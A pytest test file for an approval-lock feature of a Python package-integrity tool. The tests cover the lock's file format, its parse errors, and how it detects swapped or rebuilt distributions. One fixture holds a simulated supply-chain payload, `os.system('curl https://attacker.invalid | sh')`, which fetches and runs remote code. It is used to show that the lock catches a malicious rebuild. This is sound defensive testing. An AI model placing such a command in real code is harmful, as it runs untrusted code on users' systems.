"""The approval lock: its file format, and what it catches that per-distribution checks cannot."""

from __future__ import annotations

import hashlib
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from hatch_importspy.facts import current_environment
from hatch_importspy.findings import Finding
from hatch_importspy.report.summary import summarize
from hatch_importspy.results import DistributionResult, VerifyResult
from hatch_importspy.verify.installed import find_distributions
from hatch_importspy.verify.lock import (
    Lock,
    LockEntry,
    LockError,
    apply_lock,
    dumps_lock,
    installed_entries,
    load_lock,
    loads_lock,
    lock_findings,
    make_lock,
)
from hatch_importspy.verify.verifier import verify_installed
from tests.helpers.builds import ProjectFactory
from tests.helpers.venvs import Venv, VenvFactory

DIGEST_A = "sha256:" + "a" * 64
DIGEST_B = "sha256:" + "b" * 64
APP_SOURCE = "def run(order: str) -> int:\n    return len(order)\n"
SWAPPED_SOURCE = (
    "import os\n\n\ndef run(order: str) -> int:\n"
    "    os.system('curl https://attacker.invalid | sh')\n    return len(order)\n"
)


# --------------------------------------------------------------------------- the file


def test_file_format_is_fixed_sorted_and_quoted() -> None:
    lock = Lock(
        (
            LockEntry("Zeta_Lib", "1.10", "record", DIGEST_B),
            LockEntry("alpha", "2.0", "manifest", DIGEST_A),
            LockEntry("no-record", "0.1", "record", "missing"),
        )
    )
    assert dumps_lock(lock) == (
        "# importspy lock: approved distributions (regenerate: python -m importspy lock -o FILE)\n"
        'schema: "importspy-lock/2"\n'
        "distributions:\n"
        '- name: "alpha"\n'
        '  version: "2.0"\n'
        f'  manifest: "{DIGEST_A}"\n'
        '- name: "no-record"\n'
        '  version: "0.1"\n'
        '  record: "missing"\n'
        '- name: "zeta-lib"\n'  # canonical, whatever the installer's spelling
        '  version: "1.10"\n'
        f'  record: "{DIGEST_B}"\n'
    )
    again = loads_lock(dumps_lock(lock), source="importspy.lock")
    assert again == Lock(
        tuple(
            replace(entry, name=entry.canonical_name)
            for entry in sorted(lock.entries, key=lambda e: e.canonical_name)
        )
    )
    # Versions stay strings ("1.10" is not the float 1.1) and entries know their line.
    assert [(e.version, e.line) for e in again.entries] == [("2.0", 4), ("0.1", 7), ("1.10", 10)]
    assert dumps_lock(Lock(())).endswith("distributions: []\n")
    assert loads_lock(dumps_lock(Lock(())), source="x").entries == ()


def test_hand_written_yaml_is_read_too() -> None:
    text = (
        "schema: importspy-lock/1\ndistributions:\n"
        f"  - {{name: app, version: '1.0', manifest: '{DIGEST_A}'}}\n"
    )
    [entry] = loads_lock(text, source="importspy.lock").entries
    assert (entry.name, entry.version, entry.kind, entry.digest, entry.line) == (
        "app",
        "1.0",
        "manifest",
        DIGEST_A,
        3,
    )


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "schema: importspy-lock/9\ndistributions: []\n",
            "importspy.lock: schema must be 'importspy-lock/2' or the older 'importspy-lock/1' "
            "(found 'importspy-lock/9')",
        ),
        ("schema: importspy-lock/1\n", "importspy.lock: distributions must be a list"),
        (
            "schema: importspy-lock/1\ndistributions: []\nextra: 1\n",
            "importspy.lock: extra is not a key of a lock file",
        ),
        ("[1, 2]\n", "importspy.lock: not a lock file (expected a mapping with schema)"),
        ("schema: [\n", "importspy.lock: line 2: not valid YAML"),
        ("schema: " + "[" * 5_000 + "]" * 5_000, "importspy.lock: nested too deeply to read"),
        (
            "schema: importspy-lock/1\ndistributions:\n- name: app\n  version: 1.0\n"
            f"  manifest: '{DIGEST_A}'\n",
            "importspy.lock: distributions[0] (line 3).version must be a non-empty string",
        ),
        (
            "schema: importspy-lock/1\ndistributions:\n- name: app\n  version: '1'\n",
            "importspy.lock: distributions[0] (line 3) must have exactly one of manifest or record",
        ),
        (
            "schema: importspy-lock/1\ndistributions:\n- name: app\n  version: '1'\n"
            "  manifest: sha256:ABC\n",
            "importspy.lock: distributions[0] (line 3).manifest must be sha256: and 64 "
            "lower-case hex digits",
        ),
        (
            "schema: importspy-lock/1\ndistributions:\n- name: app\n  version: '1'\n"
            "  manifest: missing\n",
            "importspy.lock: distributions[0] (line 3).manifest must be sha256: and 64 "
            "lower-case hex digits",
        ),
        (
            "schema: importspy-lock/1\ndistributions:\n"
            f"- {{name: App, version: '1', record: '{DIGEST_A}'}}\n"
            f"- {{name: app, version: '2', record: '{DIGEST_B}'}}\n",
            "importspy.lock: distributions[1] (line 4).name repeats 'app', listed before",
        ),
        (
            "schema: importspy-lock/1\ndistributions:\n"
            f"- {{name: app, version: '1', record: '{DIGEST_A}', url: x}}\n",
            "importspy.lock: distributions[0] (line 3).url is not a key of a lock entry",
        ),
        (
            "schema: importspy-lock/1\ndistributions:\n"
            f"- {{name: app, version: '1', manifests: '{DIGEST_A}'}}\n",
            "importspy.lock: distributions[0] (line 3).manifests is not a key of a lock entry "
            "(did you mean 'manifest'?)",
        ),
        (
            "schema: importspy-lock/1\ndistribution: []\n",
            "importspy.lock: distribution is not a key of a lock file "
            "(did you mean 'distributions'?)",
        ),
    ],
)
def test_invalid_locks_fail_with_one_line(text: str, message: str) -> None:
    with pytest.raises(LockError) as raised:
        loads_lock(text, source="importspy.lock")
    assert str(raised.value) == message


def test_unreadable_lock_file(tmp_path: Path) -> None:
    with pytest.raises(LockError) as raised:
        load_lock(tmp_path / "nope.lock")
    assert str(raised.value) == f"{tmp_path / 'nope.lock'}: cannot read: No such file or directory"


# --------------------------------------------------------------------------- comparing


def test_every_kind_of_difference_is_one_finding() -> None:
    lock = loads_lock(
        dumps_lock(
            Lock(
                (
                    LockEntry("same", "1.0", "manifest", DIGEST_A),
                    LockEntry("gone", "1.0", "record", DIGEST_A),
                    LockEntry("Upgraded", "1.0", "manifest", DIGEST_A),
                    LockEntry("rebuilt", "1.0", "manifest", DIGEST_A),
                    LockEntry("unmanifested", "1.0", "manifest", DIGEST_A),
                )
            )
        ),
        source="importspy.lock",
    )
    installed = [
        LockEntry("same", "1.0", "manifest", DIGEST_A),
        LockEntry("upgraded", "1.1", "manifest", DIGEST_B),
        LockEntry("rebuilt", "1.0", "manifest", DIGEST_B),
        LockEntry("unmanifested", "1.0", "record", DIGEST_A),
        LockEntry("newcomer", "0.1", "record", DIGEST_B),
    ]
    findings = lock_findings(lock, installed)
    summary = [(f.code, f.distribution, f.expected, f.found) for f in findings]
    assert summary == [
        ("ISP330", "newcomer", "not installed", f"0.1 (record {DIGEST_B})"),
        ("ISP331", "gone", "1.0", "not installed"),
        ("ISP333", "rebuilt", f"manifest {DIGEST_A}", f"manifest {DIGEST_B}"),
        ("ISP333", "unmanifested", f"manifest {DIGEST_A}", f"record {DIGEST_A}"),
        ("ISP332", "upgraded", "1.0", "1.1"),
    ]
    messages = {f.distribution: f.message for f in findings}
    assert messages["gone"] == "gone 1.0 is approved in importspy.lock line 4 but not installed"
    assert (
        messages["upgraded"] == "upgraded is installed at 1.1, importspy.lock line 16 approves 1.0"
    )
    assert messages["newcomer"] == "newcomer 0.1 is installed but not approved in importspy.lock"


def test_lock_findings_join_the_result_where_they_belong() -> None:
    lock = Lock(
        (
            LockEntry("app", "1.0", "manifest", DIGEST_A, line=4),
            LockEntry("gone", "1.0", "record", DIGEST_A, line=7),
        ),
        source="importspy.lock",
    )
    installed = [
        LockEntry("app", "1.0", "manifest", DIGEST_B, source="/site/app-1.0.dist-info"),
        LockEntry("extra", "2.0", "record", DIGEST_B, source="/site/extra-2.0.dist-info"),
    ]
    result = VerifyResult(
        distributions=(
            DistributionResult("App", "1.0", "/site/app-1.0.dist-info", True, (), ("integrity",)),
        ),
        environment_findings=(),
        notices=(),
    )
    applied = apply_lock(result, lock, installed)
    app, extra = applied.distributions
    assert [f.code for f in app.findings] == ["ISP333"] and app.checks == ("integrity", "lock")
    assert (extra.name, extra.source, extra.has_manifest, extra.checks) == (
        "extra",
        "/site/extra-2.0.dist-info",
        False,
        ("lock",),
    )
    assert [f.code for f in extra.findings] == ["ISP330"]
    assert [(f.code, f.distribution) for f in applied.environment_findings] == [("ISP331", "gone")]
    assert summarize(applied).errors == 3


# --------------------------------------------------------------------------- a real environment


def force_install(venv: Venv, wheel: Path) -> None:
    completed = subprocess.run(
        [
            sys.executable,
            "-m",
            "pip",
            "--python",
            str(venv.python),
            "install",
            "--no-index",
            "--no-deps",
            "--force-reinstall",
            "--disable-pip-version-check",
            "-q",
            str(wheel),
        ],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert completed.returncode == 0, completed.stdout + completed.stderr


@pytest.fixture(scope="module")
def wheels(project_factory: ProjectFactory, build_wheel: Callable[..., Path]) -> dict[str, Path]:
    """The approved releases, and consistent rebuilds of them under the same versions."""

    def app(source: str, version: str = "1.0") -> Path:
        project = project_factory(
            {"locked_app/__init__.py": source}, name="locked-app", version=version, options={}
        )
        return build_wheel(project)

    def lib(value: str) -> Path:
        project = project_factory(
            {"plain_lib/__init__.py": f"VALUE = {value}\n"}, name="plain-lib", options=None
        )
        return build_wheel(project)

    return {
        "app": app(APP_SOURCE),
        "app-swapped": app(SWAPPED_SOURCE),
        "lib": lib("1"),
        "lib-swapped": lib("2"),
    }


def entries_of(venv: Venv) -> tuple[LockEntry, ...]:
    return installed_entries(find_distributions([venv.site_packages]))


@pytest.mark.e2e
def test_lock_catches_a_swapped_distribution_that_verifies_clean(
    venv_factory: VenvFactory, wheels: dict[str, Path], tmp_path: Path
) -> None:
    venv = venv_factory("lock-venv", importspy=False)
    venv.install(wheels["app"], wheels["lib"])
    lock_file = tmp_path / "importspy.lock"
    lock_file.write_text(dumps_lock(make_lock(find_distributions([venv.site_packages]))))
    lock = load_lock(lock_file)
    by_name = {entry.name: entry for entry in lock.entries}
    assert by_name["locked-app"].kind == "manifest"
    [manifest] = venv.site_packages.glob("locked_app-*.dist-info/extra_metadata/importspy.yaml")
    assert (
        by_name["locked-app"].digest
        == "sha256:" + hashlib.sha256(manifest.read_bytes()).hexdigest()
    )
    assert by_name["plain-lib"].kind == "record"
    assert lock_findings(lock, entries_of(venv)) == []
    # The same environment locked again gives the same bytes.
    assert dumps_lock(make_lock(find_distributions([venv.site_packages]))) == lock_file.read_text()

    # Someone who controls the publishing rebuilds both releases, same names and versions,
    # with RECORD and manifest regenerated consistently.
    force_install(venv, wheels["app-swapped"])
    force_install(venv, wheels["lib-swapped"])
    verified = verify_installed([venv.site_packages], [], current_environment())
    assert summarize(verified).compliant, verified.findings()  # nothing to see per distribution

    findings = lock_findings(lock, entries_of(venv))
    assert [(f.code, f.distribution) for f in findings] == [
        ("ISP333", "locked-app"),
        ("ISP333", "plain-lib"),
    ]
    app_finding: Finding = findings[0]
    assert app_finding.expected == f"manifest {by_name['locked-app'].digest}"
    assert app_finding.found is not None and app_finding.found.startswith("manifest sha256:")
    assert app_finding.message.startswith(f"locked-app 1.0 is not the build {lock_file} line ")
    gated = apply_lock(verified, lock, entries_of(venv))
    assert not summarize(gated).compliant
